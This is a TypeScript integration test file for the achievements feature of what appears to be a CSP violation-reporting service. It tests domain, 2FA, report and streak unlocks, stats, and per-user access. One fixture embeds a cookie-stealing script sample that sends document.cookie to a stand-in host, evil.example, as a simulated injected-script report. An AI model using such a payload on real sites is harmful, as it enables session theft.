// Achievements unlocked by real actions over HTTP: adding a domain, turning on 2FA, receiving a violation
// report through the real endpoint; progress and stats; an unlock shown once; only one's own.
import { UpdateCommand } from '@aws-sdk/lib-dynamodb';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LocalServer } from '../../local/server';
import { getCounters } from '../../store/achievements';
import { achievementCountersKey } from '../../store/keys';
import { registeredClient, startTestServer } from '../../testing/api-server';
import { sendReport, until } from '../../testing/reports';
import { totpCode } from '../../testing/totp-codes';

let server: LocalServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(async () => {
  await server?.close();
});

const types = (list: Array<{ type: string }>) => list.map((a) => a.type).sort();

describe('achievements', () => {
  it('starts empty, with every achievement at 0 of its target', async () => {
    const { client } = await registeredClient(server.url);
    expect(await (await client.get('/api/achievements')).json()).toEqual([]);
    const progress = await (await client.get('/api/achievements/progress')).json();
    expect(progress.length).toBeGreaterThanOrEqual(12);
    expect(progress.every((p: { currentValue: number }) => p.currentValue === 0)).toBe(true);
    expect(await (await client.get('/api/achievements/stats')).json()).toEqual({
      totalAchievements: 0,
      totalPoints: 0,
      rarityBreakdown: { common: 0, rare: 0, epic: 0, legendary: 0 },
    });
  });

  it('unlocks by real actions: a domain, 2FA, a report received; each once', async () => {
    const { client, user } = await registeredClient(server.url);
    const domain = await (
      await client.post('/api/domains', { name: 'Site', url: 'https://site.example/' })
    ).json();
    await client.post('/api/domains', { name: 'Second', url: 'https://second.example/' });
    expect(types(await (await client.get('/api/achievements')).json())).toEqual(['first-domain']);
    const progress = await (await client.get('/api/achievements/progress')).json();
    expect(progress.find((p: { achievementType: string }) => p.achievementType === 'five-domains')).toEqual({
      achievementType: 'five-domains',
      currentValue: 2,
      targetValue: 5,
    });

    const { secret } = await (await client.post('/api/user/2fa/setup')).json();
    await client.post('/api/user/2fa/verify', { token: totpCode(secret) });
    expect(types(await (await client.get('/api/achievements')).json())).toEqual([
      'first-domain',
      'two-factor',
    ]);

    expect((await sendReport(server.url, domain.uuid)).status).toBe(204);
    type Unlock = { type: string; seen: boolean; userId: string; points: number };
    const list = await until(
      async (): Promise<Unlock[]> => (await client.get('/api/achievements')).json(),
      (l) => l.some((a) => a.type === 'first-report'),
    );
    expect(types(list)).toEqual(['first-domain', 'first-report', 'two-factor']);
    expect(list.every((a) => a.userId === user.id && a.seen === false)).toBe(true);

    const stats = await (await client.get('/api/achievements/stats')).json();
    expect(stats.totalAchievements).toBe(3);
    expect(stats.totalPoints).toBe(list.reduce((n, a) => n + a.points, 0));
    expect(stats.rarityBreakdown).toMatchObject({ common: 2, rare: 1 });
  });

  it('unlocks Quiet Week after 7 days of reports without a new suspicious inline-code group', async () => {
    const { client, user } = await registeredClient(server.url);
    const domain = await (
      await client.post('/api/domains', { name: 'Site', url: 'https://site.example/' })
    ).json();
    const db = server.deps.db;
    const counters = () => getCounters(db, user.id);
    /** Moves the stored moments back in time, as if days had passed. */
    const daysAgo = async (field: 'firstReportAt' | 'lastSuspiciousAt', days: number) =>
      db.doc.send(
        new UpdateCommand({
          TableName: db.table,
          Key: achievementCountersKey(user.id),
          UpdateExpression: 'SET #f = :t',
          ExpressionAttributeNames: { '#f': field },
          ExpressionAttributeValues: { ':t': Date.now() - days * 86_400_000 },
        }),
      );
    const unlockedTypes = async () => types(await (await client.get('/api/achievements')).json());
    const quiet = async () =>
      (await (await client.get('/api/achievements/progress')).json()).find(
        (p: { achievementType: string }) => p.achievementType === 'quiet-week',
      );

    // No reports yet: no streak.
    expect(await quiet()).toEqual({ achievementType: 'quiet-week', currentValue: 0, targetValue: 7 });
    await sendReport(server.url, domain.uuid);
    expect((await until(counters, (c) => Boolean(c.firstReportAt))).firstReportAt).toBeDefined();
    await daysAgo('firstReportAt', 6);
    expect((await quiet()).currentValue).toBe(6);
    expect(await unlockedTypes()).not.toContain('quiet-week');

    // Inline code the crawl never saw (no crawl yet): suspicious, the week starts again.
    const injected = {
      'document-uri': 'https://site.example/search?q=x',
      'violated-directive': 'script-src-elem',
      'blocked-uri': 'inline',
      'script-sample': 'fetch("https://evil.example/?c="+document.cookie)',
    };
    await sendReport(server.url, domain.uuid, injected);
    expect((await until(counters, (c) => Boolean(c.lastSuspiciousAt))).lastSuspiciousAt).toBeDefined();
    await daysAgo('firstReportAt', 30);
    expect((await quiet()).currentValue).toBe(0);
    expect(await unlockedTypes()).not.toContain('quiet-week');

    // The same group again is not new: it does not restart the week.
    await daysAgo('lastSuspiciousAt', 7);
    const before = (await counters()).reportsReceived ?? 0;
    // (Another page, so it is not dropped as an exact repeat; same directive, code and sample.)
    await sendReport(server.url, domain.uuid, { ...injected, 'document-uri': 'https://site.example/other' });
    expect((await until(counters, (c) => (c.reportsReceived ?? 0) > before)).reportsReceived).toBeGreaterThan(
      before,
    );
    expect((await quiet()).currentValue).toBe(7);
    expect(await unlockedTypes()).toContain('quiet-week');
  });

  it('marks an unlock as shown, once; someone else’s are not found', async () => {
    const { client, user } = await registeredClient(server.url);
    await client.post('/api/domains', { name: 'Site', url: 'https://site.example/' });
    expect((await client.post('/api/achievements/first-domain/seen')).status).toBe(200);
    expect((await (await client.get('/api/achievements')).json())[0].seen).toBe(true);
    expect((await client.post('/api/achievements/a-plus/seen')).status).toBe(404);
    expect((await client.post('/api/achievements/no-such-thing/seen')).status).toBe(404);
    const other = await registeredClient(server.url);
    expect((await other.client.get(`/api/achievements?user=${user.id}`)).status).toBe(404);
    expect((await other.client.get(`/api/achievements/progress?user=${user.id}`)).status).toBe(404);
  });
});
